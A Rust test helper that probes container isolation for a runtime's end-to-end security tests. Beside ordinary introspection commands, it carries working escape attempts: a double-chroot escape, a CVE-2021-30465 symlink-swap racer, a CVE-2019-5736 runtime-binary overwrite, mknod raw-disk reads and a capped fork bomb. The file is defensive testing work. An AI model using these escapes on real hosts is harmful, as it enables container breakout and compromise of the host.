//! probe: a tiny static program that reports facts from inside a container, one plain line
//! per fact, for the end-to-end tests (`tests/e2e/run.rs`). Standard library only, built
//! with `rustc -C target-feature=+crt-static`, so it runs in a FROM-scratch image. The few
//! libc functions std does not wrap are declared below. On error it prints
//! `probe: <what>: <why>` on stderr and exits 1.

use std::ffi::{c_char, c_int, c_long, c_void, CString};
use std::io::Write;
use std::os::unix::ffi::OsStrExt;
use std::process::ExitCode;
use std::time::{Duration, Instant};

mod net;

extern "C" {
    fn gethostname(name: *mut c_char, len: usize) -> c_int;
    fn getuid() -> u32;
    fn getgid() -> u32;
    fn getgroups(size: c_int, list: *mut u32) -> c_int;
    fn msgget(key: c_int, flags: c_int) -> c_int;
    fn fork() -> c_int;
    fn kill(pid: c_int, sig: c_int) -> c_int;
    fn waitpid(pid: c_int, status: *mut c_int, options: c_int) -> c_int;
    fn pause() -> c_int;
    fn prctl(option: c_int, arg2: c_long, arg3: c_long, arg4: c_long, arg5: c_long) -> c_int;
    fn _exit(code: c_int) -> !;
    fn open(path: *const c_char, flags: c_int, mode: u32) -> c_int;
    fn write(fd: c_int, buf: *const c_void, n: usize) -> isize;
    fn fdatasync(fd: c_int) -> c_int;
    fn close(fd: c_int) -> c_int;
    fn clock_gettime(clock: c_int, ts: *mut Timespec) -> c_int;
}

#[repr(C)]
struct Timespec {
    tv_sec: i64,
    tv_nsec: i64,
}

const CLOCK_PROCESS_CPUTIME_ID: c_int = 2;

const ENOENT: i32 = 2;
const EAGAIN: i32 = 11;
const SIGKILL: c_int = 9;
const PR_SET_PDEATHSIG: c_int = 1;
const O_WRONLY: c_int = 0o1;
#[cfg(any(target_arch = "x86_64", target_arch = "x86"))]
const O_DIRECT: c_int = 0o40000;
#[cfg(not(any(target_arch = "x86_64", target_arch = "x86")))]
const O_DIRECT: c_int = 0o200000;
const O_CLOEXEC: c_int = 0o2000000;

/// The most children `forkbomb` makes when nothing stops it: it must never hurt a host
/// that runs it without a pids limit.
const FORK_CAP: usize = 500;

type Res<T = ()> = Result<T, String>;

fn errno() -> i32 {
    std::io::Error::last_os_error().raw_os_error().unwrap_or(0)
}

fn os_err(what: &str) -> String {
    format!("{what}: {}", std::io::Error::last_os_error())
}

fn read(path: &str) -> Res<String> {
    std::fs::read_to_string(path).map_err(|e| format!("read {path}: {e}"))
}

fn arg<'a>(args: &'a [String], i: usize, what: &str) -> Res<&'a str> {
    args.get(i)
        .map(String::as_str)
        .ok_or_else(|| format!("missing argument {what}"))
}

fn num<T: std::str::FromStr>(s: &str, what: &str) -> Res<T> {
    s.parse()
        .map_err(|_| format!("{what}: not a number: {s:?}"))
}

fn hostname() -> Res {
    let mut buf = [0u8; 256];
    if unsafe { gethostname(buf.as_mut_ptr().cast(), buf.len()) } != 0 {
        return Err(os_err("gethostname"));
    }
    let n = buf.iter().position(|&b| b == 0).unwrap_or(buf.len());
    println!("{}", String::from_utf8_lossy(&buf[..n]));
    Ok(())
}

fn ids() -> Res {
    let mut groups = [0u32; 256];
    let n = unsafe { getgroups(groups.len() as c_int, groups.as_mut_ptr()) };
    if n < 0 {
        return Err(os_err("getgroups"));
    }
    let list: Vec<String> = groups[..n as usize].iter().map(u32::to_string).collect();
    println!("uid={}", unsafe { getuid() });
    println!("gid={}", unsafe { getgid() });
    println!("groups={}", list.join(","));
    Ok(())
}

/// "uid 0 0 4294967295": each line of uid_map, then of gid_map, spaces collapsed.
fn maps() -> Res {
    for (name, file) in [("uid", "/proc/self/uid_map"), ("gid", "/proc/self/gid_map")] {
        for line in read(file)?.lines() {
            let f: Vec<&str> = line.split_whitespace().collect();
            println!("{name} {}", f.join(" "));
        }
    }
    Ok(())
}

fn procs() -> Res {
    let mut pids: Vec<u32> = std::fs::read_dir("/proc")
        .map_err(|e| format!("read /proc: {e}"))?
        .flatten()
        .filter_map(|e| e.file_name().to_str()?.parse().ok())
        .collect();
    pids.sort();
    for p in pids {
        println!("{p}");
    }
    Ok(())
}

fn ifaces() -> Res {
    let mut names: Vec<String> = match std::fs::read_dir("/sys/class/net") {
        Ok(d) => d
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .collect(),
        // /proc/net/dev: two header lines, then "  name: counters".
        Err(_) => read("/proc/net/dev")?
            .lines()
            .skip(2)
            .filter_map(|l| Some(l.split_once(':')?.0.trim().to_string()))
            .collect(),
    };
    names.sort();
    for n in names {
        println!("{n}");
    }
    Ok(())
}

fn msgq(key: &str) -> Res {
    let key: i64 = match key.strip_prefix("0x") {
        Some(h) => i64::from_str_radix(h, 16).map_err(|_| format!("bad key {key:?}"))?,
        None => num(key, "key")?,
    };
    if unsafe { msgget(key as c_int, 0) } >= 0 {
        println!("visible");
    } else if errno() == ENOENT {
        println!("absent");
    } else {
        return Err(os_err("msgget"));
    }
    Ok(())
}

/// Allocate and touch every page of `mib` MiB, so it is really resident.
fn alloc(mib: usize) -> Res {
    let mut v: Vec<u8> = Vec::with_capacity(mib << 20);
    v.resize(mib << 20, 1);
    for i in (0..v.len()).step_by(4096) {
        v[i] = (i >> 12) as u8;
    }
    std::hint::black_box(&v);
    println!("ok");
    Ok(())
}

/// Busy for `secs` of wall time; prints that time and the CPU time this process got.
fn spin(secs: f64) -> Res {
    let start = Instant::now();
    let until = Duration::from_secs_f64(secs);
    let mut x = 0u64;
    while start.elapsed() < until {
        for _ in 0..10_000 {
            x = std::hint::black_box(x.wrapping_mul(6364136223846793005).wrapping_add(1));
        }
    }
    println!("spun_usec {}", start.elapsed().as_micros());
    let mut ts = Timespec {
        tv_sec: 0,
        tv_nsec: 0,
    };
    if unsafe { clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &mut ts) } != 0 {
        return Err(os_err("clock_gettime"));
    }
    println!("cpu_usec {}", ts.tv_sec * 1_000_000 + ts.tv_nsec / 1000);
    Ok(())
}

/// The container's own CPU accounting from its cgroup (a cgroup namespace makes it the
/// root): "usage_usec N" (v1 cpuacct.usage in ns, or v2 cpu.stat usage_usec) and
/// "nr_throttled N" (cpu.stat: the periods in which the CFS quota stopped it).
fn cpu_usage() -> Res {
    let v1 = |file: &str| {
        ["cpu", "cpuacct", "cpu,cpuacct", "cpuacct,cpu"]
            .iter()
            .find_map(|dir| std::fs::read_to_string(format!("/sys/fs/cgroup/{dir}/{file}")).ok())
    };
    let key = |stat: &str, k: &str| -> Res<u64> {
        let v = stat
            .lines()
            .find_map(|l| l.strip_prefix(k)?.strip_prefix(' '))
            .ok_or_else(|| format!("cpu.stat has no {k}"))?;
        num(v.trim(), k)
    };
    let (usec, stat) = match v1("cpuacct.usage") {
        Some(ns) => {
            let ns: u64 = num(ns.trim(), "cpuacct.usage")?;
            let stat = v1("cpu.stat").ok_or("no cpu.stat in any cgroup v1 hierarchy")?;
            (ns / 1000, stat)
        }
        None => {
            let stat = read("/sys/fs/cgroup/cpu.stat")?;
            (key(&stat, "usage_usec")?, stat)
        }
    };
    println!("usage_usec {usec}");
    println!("nr_throttled {}", key(&stat, "nr_throttled")?);
    Ok(())
}

/// Fork children that wait until fork fails (or FORK_CAP is reached), report, then kill and
/// reap them all: it ends by itself whatever the limit.
fn forkbomb() -> Res {
    let mut children = Vec::new();
    let mut failed = None;
    while children.len() < FORK_CAP {
        let pid = unsafe { fork() };
        if pid == 0 {
            // The child: only raw system calls. Die with the parent, else wait to be killed.
            unsafe {
                prctl(PR_SET_PDEATHSIG, SIGKILL as c_long, 0, 0, 0);
                loop {
                    pause();
                }
            }
        }
        if pid < 0 {
            failed = Some(errno());
            break;
        }
        children.push(pid);
    }
    for &pid in &children {
        unsafe { kill(pid, SIGKILL) };
    }
    for &pid in &children {
        let mut status = 0;
        unsafe { waitpid(pid, &mut status, 0) };
    }
    println!("forked {}", children.len());
    match failed {
        Some(EAGAIN) => println!("fork failed: EAGAIN"),
        Some(e) => println!("fork failed: errno {e}"),
        None => println!("fork never failed (stopped at {FORK_CAP})"),
    }
    Ok(())
}

/// The capability sets of this process, as /proc/self/status shows them.
fn caps() -> Res {
    for line in read("/proc/self/status")?.lines() {
        if line.starts_with("Cap") {
            let f: Vec<&str> = line.split_whitespace().collect();
            println!("{}", f.join(" "));
        }
    }
    Ok(())
}

fn cat(path: &str) -> Res {
    let b = std::fs::read(path).map_err(|e| format!("read {path}: {e}"))?;
    std::io::stdout()
        .write_all(&b)
        .map_err(|e| format!("write stdout: {e}"))
}

fn write_file(path: &str, text: &str) -> Res {
    std::fs::write(path, text).map_err(|e| format!("write {path}: {e}"))?;
    println!("ok");
    Ok(())
}

/// Write `mib` MiB to `path` with O_DIRECT, 1 MiB per write from a page-aligned buffer, then
/// fdatasync; prints the rate in MiB/s. O_DIRECT keeps the page cache out, so the rate is
/// the device's (and its I/O throttle's), not memory's.
fn write_direct(path: &str, mib: usize) -> Res {
    const MB: usize = 1 << 20;
    let layout = std::alloc::Layout::from_size_align(MB, 4096).map_err(|e| e.to_string())?;
    let buf = unsafe { std::alloc::alloc(layout) };
    if buf.is_null() {
        return Err("out of memory".into());
    }
    unsafe { std::ptr::write_bytes(buf, 0x5a, MB) };
    let c = CString::new(path).map_err(|_| "path holds a NUL".to_string())?;
    let fd = unsafe { open(c.as_ptr(), O_WRONLY | O_DIRECT | O_CLOEXEC, 0) };
    if fd < 0 {
        return Err(os_err(&format!("open {path} O_DIRECT")));
    }
    let start = Instant::now();
    for _ in 0..mib {
        let n = unsafe { write(fd, buf.cast(), MB) };
        if n != MB as isize {
            let e = if n < 0 {
                os_err(&format!("write {path}"))
            } else {
                format!("write {path}: short write of {n}")
            };
            unsafe { close(fd) };
            return Err(e);
        }
    }
    if unsafe { fdatasync(fd) } != 0 {
        return Err(os_err(&format!("fdatasync {path}")));
    }
    let secs = start.elapsed().as_secs_f64();
    unsafe { close(fd) };
    unsafe { std::alloc::dealloc(buf, layout) };
    println!("{:.3} MiB/s", mib as f64 / secs);
    Ok(())
}

extern "C" {
    #[link_name = "syscall"]
    fn raw_syscall(nr: c_long, a: c_long, b: c_long, c: c_long, d: c_long, e: c_long, f: c_long) -> c_long;
    fn __errno_location() -> *mut c_int;
}

/// Calls Docker's default seccomp profile keeps from a container, each with harmless
/// arguments: "NAME ERRNO" per line, 0 when the call succeeded.
fn syscalls() {
    let s = |p: &[u8]| p.as_ptr() as c_long;
    let calls: [(&str, c_long, [c_long; 6]); 24] = [
        ("keyctl", 250, [0, -3, 0, 0, 0, 0]),
        ("add_key", 248, [s(b"user\0"), s(b"probe\0"), s(b"x\0"), 1, -2, 0]),
        ("request_key", 249, [s(b"user\0"), s(b"nosuch\0"), 0, 0, 0, 0]),
        ("bpf", 321, [5, 0, 0, 0, 0, 0]),
        ("perf_event_open", 298, [0, 0, -1, -1, 0, 0]),
        ("userfaultfd", 323, [1, 0, 0, 0, 0, 0]),
        ("kexec_load", 246, [0, 0, 0, 0, 0, 0]),
        ("init_module", 175, [0, 0, s(b"\0"), 0, 0, 0]),
        ("finit_module", 313, [-1, s(b"\0"), 0, 0, 0, 0]),
        ("delete_module", 176, [s(b"nosuch\0"), 0, 0, 0, 0, 0]),
        ("open_by_handle_at", 304, [-1, 0, 0, 0, 0, 0]),
        ("reboot", 169, [0, 0, 0, 0, 0, 0]),
        ("swapon", 167, [0, 0, 0, 0, 0, 0]),
        ("swapoff", 168, [0, 0, 0, 0, 0, 0]),
        ("acct", 163, [0, 0, 0, 0, 0, 0]),
        ("clock_settime", 227, [99, 0, 0, 0, 0, 0]),
        ("settimeofday", 164, [0, 0, 0, 0, 0, 0]),
        ("iopl", 172, [0, 0, 0, 0, 0, 0]),
        ("ioperm", 173, [0, 0, 0, 0, 0, 0]),
        ("unshare", 272, [0x0400_0000, 0, 0, 0, 0, 0]),
        ("setns", 308, [-1, 0, 0, 0, 0, 0]),
        ("mount", 165, [0, s(b"/\0"), 0, 0x20, 0, 0]),
        ("clone3", 435, [0, 0, 0, 0, 0, 0]),
        ("get_mempolicy", 239, [0, 0, 0, 0, 0, 0]),
    ];
    for (name, nr, a) in calls {
        let r = unsafe { raw_syscall(nr, a[0], a[1], a[2], a[3], a[4], a[5]) };
        let e = if r < 0 { unsafe { *__errno_location() } } else { 0 };
        println!("{name} {e}");
    }
}

/// Raw system calls named on the command line as `NAME:ARG:ARG...` (numbers, decimal or
/// 0x-hex), for the seccomp tests (tests/e2e/security/seccomp.rs): "SPEC ERRNO" per line, 0
/// when the call succeeded. Only calls that change nothing outside this process:
/// personality (a successful change is undone), socket and io_uring_setup (the fd is
/// closed; io_uring_setup gets a zeroed `struct io_uring_params` as its second argument),
/// io_uring_enter and io_uring_register (on the fd given, -1 for none).
fn calls(specs: &[String]) -> Res {
    const PERSONALITY: c_long = 135;
    const SOCKET: c_long = 41;
    const CLOSE: c_long = 3;
    const IO_URING_SETUP: c_long = 425;
    const IO_URING_ENTER: c_long = 426;
    const IO_URING_REGISTER: c_long = 427;
    for spec in specs {
        let mut parts = spec.split(':');
        let name = parts.next().unwrap_or_default();
        let mut a = [0 as c_long; 6];
        for (i, p) in parts.enumerate() {
            let v = match p.strip_prefix("0x") {
                Some(h) => u64::from_str_radix(h, 16).map_err(|_| format!("bad number {p:?}"))?,
                None => p.parse::<i64>().map_err(|_| format!("bad number {p:?}"))? as u64,
            };
            let slot = a
                .get_mut(i)
                .ok_or_else(|| format!("too many arguments in {spec:?}"))?;
            *slot = v as c_long;
        }
        // struct io_uring_params is 120 bytes; zeroes ask for nothing special.
        let mut params = [0u64; 15];
        let nr = match name {
            "personality" => PERSONALITY,
            "socket" => SOCKET,
            "io_uring_setup" => {
                a[1] = params.as_mut_ptr() as c_long;
                IO_URING_SETUP
            }
            "io_uring_enter" => IO_URING_ENTER,
            "io_uring_register" => IO_URING_REGISTER,
            n => return Err(format!("calls: unknown call {n:?}")),
        };
        let r = unsafe { raw_syscall(nr, a[0], a[1], a[2], a[3], a[4], a[5]) };
        let e = if r < 0 {
            unsafe { *__errno_location() }
        } else {
            0
        };
        if r >= 0 {
            match nr {
                SOCKET | IO_URING_SETUP => {
                    unsafe { raw_syscall(CLOSE, r, 0, 0, 0, 0, 0) };
                }
                // Back to plain Linux (a query returns the persona, it changes nothing).
                PERSONALITY => {
                    unsafe { raw_syscall(PERSONALITY, 0, 0, 0, 0, 0, 0) };
                }
                _ => {}
            }
        }
        println!("{spec} {e}");
    }
    Ok(())
}

fn run(args: &[String]) -> Res<u8> {
    let cmd = arg(args, 1, "COMMAND (hostname pid ids maps procs ifaces msgq alloc spin cpu-usage forkbomb caps cat write exit env cwd write-direct syscalls calls escape chroot-escape swap exe-attack read-dev mknod-read ra-attack ra-listen connect)")?;
    match cmd {
        "hostname" => hostname()?,
        "pid" => println!("{}", std::process::id()),
        "ids" => ids()?,
        "maps" => maps()?,
        "procs" => procs()?,
        "ifaces" => ifaces()?,
        "msgq" => msgq(arg(args, 2, "KEY")?)?,
        "alloc" => alloc(num(arg(args, 2, "MIB")?, "MIB")?)?,
        "spin" => spin(num(arg(args, 2, "SECS")?, "SECS")?)?,
        "cpu-usage" => cpu_usage()?,
        "forkbomb" => forkbomb()?,
        "caps" => caps()?,
        "cat" => cat(arg(args, 2, "PATH")?)?,
        "write" => write_file(arg(args, 2, "PATH")?, arg(args, 3, "TEXT")?)?,
        "exit" => return num(arg(args, 2, "N")?, "N"),
        "env" => {
            for (k, v) in std::env::vars_os() {
                let mut out = std::io::stdout().lock();
                let _ = out.write_all(k.as_bytes());
                let _ = out.write_all(b"=");
                let _ = out.write_all(v.as_bytes());
                let _ = out.write_all(b"\n");
            }
        }
        "cwd" => println!(
            "{}",
            std::env::current_dir()
                .map_err(|e| format!("getcwd: {e}"))?
                .display()
        ),
        "syscalls" => syscalls(),
        "calls" => calls(&args[2..])?,
        "write-direct" => write_direct(arg(args, 2, "PATH")?, num(arg(args, 3, "MIB")?, "MIB")?)?,
        "escape" => report_top(arg(args, 2, "CANARY")?)?,
        "chroot-escape" => chroot_escape(arg(args, 2, "CANARY")?)?,
        "swap" => swap(
            arg(args, 2, "PATH")?,
            arg(args, 3, "TARGET")?,
            num(arg(args, 4, "SECS")?, "SECS")?,
        )?,
        "exe-attack" => exe_attack(
            arg(args, 2, "LOCK")?,
            arg(args, 3, "STOP")?,
            num(arg(args, 4, "SECS")?, "SECS")?,
        )?,
        "read-dev" => read_dev(arg(args, 2, "PATH")?)?,
        "mknod-read" => mknod_read(
            arg(args, 2, "PATH")?,
            num(arg(args, 3, "MAJOR")?, "MAJOR")?,
            num(arg(args, 4, "MINOR")?, "MINOR")?,
        )?,
        "ra-attack" => net::ra_attack(arg(args, 2, "PREFIX")?)?,
        "ra-listen" => net::ra_listen(
            arg(args, 2, "PREFIX")?,
            num(arg(args, 3, "SECS")?, "SECS")?,
        )?,
        "connect" => net::connect(arg(args, 2, "KIND")?, arg(args, 3, "ADDRESS")?)?,
        c => return Err(format!("unknown command {c:?}")),
    }
    Ok(0)
}

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().collect();
    match run(&args) {
        Ok(code) => ExitCode::from(code),
        Err(e) => {
            eprintln!("probe: {e}");
            ExitCode::from(1)
        }
    }
}

// ---------------------------------------------------------------------------------------
// Escape attempts, for tests/e2e/security.rs. Each one really attacks and reports what it
// got; the test decides whether that was allowed.

extern "C" {
    fn mknod(path: *const c_char, mode: u32, dev: u64) -> c_int;
    fn renameat2(
        olddir: c_int,
        old: *const c_char,
        newdir: c_int,
        new: *const c_char,
        flags: u32,
    ) -> c_int;
    fn flock(fd: c_int, op: c_int) -> c_int;
}

const AT_FDCWD: c_int = -100;
const RENAME_EXCHANGE: u32 = 2;
const LOCK_EX: c_int = 2;
const O_RDWR: c_int = 0o2;
const O_CREAT: c_int = 0o100;
const O_PATH: c_int = 0o10000000;
const S_IFBLK: u32 = 0o060000;

fn cstring(s: &str) -> Res<CString> {
    CString::new(s).map_err(|_| format!("{s:?} holds a NUL"))
}

/// `..` 64 times from the cwd, then report where that led: the cwd as /proc/self/cwd names
/// it (a directory outside the root shows its host path), what is there, and whether
/// `canary` (a path on the host) can be read from there: "canary found: TEXT" or "canary
/// absent".
fn report_top(canary: &str) -> Res {
    let cwd = |what: &str| match std::fs::read_link("/proc/self/cwd") {
        Ok(p) => println!("{what} {}", p.display()),
        Err(e) => println!("{what} ? ({e})"),
    };
    cwd("start");
    for _ in 0..64 {
        let _ = std::env::set_current_dir("..");
    }
    cwd("top");
    let mut names: Vec<String> = std::fs::read_dir(".")
        .map_err(|e| format!("read .: {e}"))?
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    println!("ls {}", names.join(" "));
    match std::fs::read_to_string(canary.trim_start_matches('/')) {
        Ok(t) => println!("canary found: {}", t.trim()),
        Err(_) => println!("canary absent"),
    }
    Ok(())
}

/// The double-chroot escape: chroot into a subdirectory while the cwd stays outside it,
/// climb with `..` (nothing stops it: the cwd is not under the new root), chroot there.
fn chroot_escape(canary: &str) -> Res {
    match std::fs::create_dir("/.escape") {
        Err(e) if e.kind() != std::io::ErrorKind::AlreadyExists => {
            return Err(format!("mkdir /.escape: {e}"))
        }
        _ => {}
    }
    std::os::unix::fs::chroot("/.escape").map_err(|e| format!("chroot /.escape: {e}"))?;
    println!("chrooted");
    for _ in 0..64 {
        let _ = std::env::set_current_dir("..");
    }
    std::os::unix::fs::chroot(".").map_err(|e| format!("chroot .: {e}"))?;
    std::env::set_current_dir("/").map_err(|e| format!("chdir /: {e}"))?;
    report_top(canary)
}

/// CVE-2021-30465's racer: `path` a directory and `path.swap` a symlink to `target`,
/// exchanged atomically (renameat2 RENAME_EXCHANGE) as fast as possible until `path.stop`
/// exists or `secs` pass. Prints the number of swaps.
fn swap(path: &str, target: &str, secs: f64) -> Res {
    let link = format!("{path}.swap");
    let _ = std::fs::create_dir(path);
    let _ = std::fs::remove_file(&link);
    std::os::unix::fs::symlink(target, &link).map_err(|e| format!("symlink {link}: {e}"))?;
    let (a, b) = (cstring(path)?, cstring(&link)?);
    let stop = std::path::PathBuf::from(format!("{path}.stop"));
    let start = Instant::now();
    let mut n: u64 = 0;
    while start.elapsed().as_secs_f64() < secs {
        for _ in 0..100 {
            if unsafe { renameat2(AT_FDCWD, a.as_ptr(), AT_FDCWD, b.as_ptr(), RENAME_EXCHANGE) }
                != 0
            {
                return Err(os_err(&format!("renameat2 {path} {link}")));
            }
            n += 1;
        }
        if stop.exists() {
            break;
        }
    }
    println!("swapped {n}");
    Ok(())
}

/// CVE-2019-5736's attacker. Holds an exclusive flock on `lock` (an mrun started in here
/// with the default store then blocks in it, and its binary stays in reach). Until `stop`
/// exists or `secs` pass, for every other process whose /proc/PID/exe is not one of the
/// image's own binaries: open it for writing, and keep an O_PATH fd to it, through which
/// it tries again after killing that process (runc was overwritten once it had exited).
/// Whatever opens for writing gets a shell script written over its first bytes. Once `stop`
/// exists it tries the fds it holds until they expire (3 s), then prints the executables
/// seen, how many it held, killed and wrote, and the errors by errno.
fn exe_attack(lock: &str, stop: &str, secs: f64) -> Res {
    const PAYLOAD: &[u8] = b"#!/bin/sh\necho overwritten from a container\n";
    let l = cstring(lock)?;
    let lfd = unsafe { open(l.as_ptr(), O_RDWR | O_CREAT | O_CLOEXEC, 0o600) };
    if lfd < 0 || unsafe { flock(lfd, LOCK_EX) } != 0 {
        return Err(os_err(&format!("lock {lock}")));
    }
    let me = std::process::id();
    let mut seen = std::collections::BTreeSet::new();
    let mut errors = std::collections::BTreeMap::<i32, u64>::new();
    // (pid, O_PATH fd, when it was opened, killed yet)
    let mut held: Vec<(u32, c_int, Instant, bool)> = Vec::new();
    let (mut opened, mut killed, mut wrote) = (0u64, 0u64, 0u64);
    let try_write = |path: &CString, errors: &mut std::collections::BTreeMap<i32, u64>| {
        let fd = unsafe { open(path.as_ptr(), O_WRONLY | O_CLOEXEC, 0) };
        if fd < 0 {
            *errors.entry(errno()).or_default() += 1;
            return 0;
        }
        let n = unsafe { write(fd, PAYLOAD.as_ptr().cast(), PAYLOAD.len()) };
        unsafe { close(fd) };
        u64::from(n > 0)
    };
    let start = Instant::now();
    // Once `stop` exists, only the fds already held are still tried, until they expire.
    while start.elapsed().as_secs_f64() < secs
        && !(std::path::Path::new(stop).exists() && held.is_empty())
    {
        let stopping = std::path::Path::new(stop).exists();
        let pids: Vec<u32> = std::fs::read_dir("/proc")
            .map_err(|e| format!("read /proc: {e}"))?
            .flatten()
            .filter_map(|e| e.file_name().to_str()?.parse().ok())
            .filter(|&p| p != me)
            .collect();
        for pid in pids {
            if stopping || held.iter().any(|h| h.0 == pid) {
                continue;
            }
            let exe = format!("/proc/{pid}/exe");
            let Ok(target) = std::fs::read_link(&exe) else {
                continue;
            };
            let target = target.to_string_lossy().into_owned();
            if target == "/bin/busybox" || target == "/probe" {
                continue;
            }
            seen.insert(target);
            let c = cstring(&exe)?;
            wrote += try_write(&c, &mut errors);
            let fd = unsafe { open(c.as_ptr(), O_PATH | O_CLOEXEC, 0) };
            if fd < 0 {
                *errors.entry(errno()).or_default() += 1;
            } else {
                opened += 1;
                held.push((pid, fd, Instant::now(), false));
            }
        }
        for h in held.iter_mut() {
            wrote += try_write(&cstring(&format!("/proc/self/fd/{}", h.1))?, &mut errors);
            if !h.3 && h.2.elapsed() > Duration::from_millis(300) {
                unsafe { kill(h.0 as c_int, SIGKILL) };
                killed += 1;
                h.3 = true;
            }
        }
        held.retain(|h| {
            let keep = h.2.elapsed() < Duration::from_secs(3);
            if !keep {
                unsafe { close(h.1) };
            }
            keep
        });
        std::thread::sleep(Duration::from_millis(1));
    }
    let seen: Vec<String> = seen.into_iter().collect();
    println!("seen {}", seen.join(" "));
    println!("held {opened}");
    println!("killed {killed}");
    println!("wrote {wrote}");
    let errors: Vec<String> = errors.iter().map(|(e, n)| format!("{e}:{n}")).collect();
    println!("errors {}", errors.join(" "));
    Ok(())
}

/// Read the first 512 bytes of a device (or any file): "read N bytes".
fn read_dev(path: &str) -> Res {
    use std::io::Read;
    let mut f = std::fs::File::open(path).map_err(|e| format!("open {path}: {e}"))?;
    let mut buf = [0u8; 512];
    let n = f.read(&mut buf).map_err(|e| format!("read {path}: {e}"))?;
    println!("read {n} bytes");
    Ok(())
}

/// mknod a block device MAJOR:MINOR at `path` ("mknod ok"), then `read_dev` it.
fn mknod_read(path: &str, major: u64, minor: u64) -> Res {
    // gnu_dev_makedev
    let dev = ((major & 0xffff_f000) << 32)
        | ((major & 0xfff) << 8)
        | ((minor & 0xffff_ff00) << 12)
        | (minor & 0xff);
    let c = cstring(path)?;
    if unsafe { mknod(c.as_ptr(), S_IFBLK | 0o600, dev) } != 0 {
        return Err(os_err(&format!("mknod {path}")));
    }
    println!("mknod ok");
    read_dev(path)
}
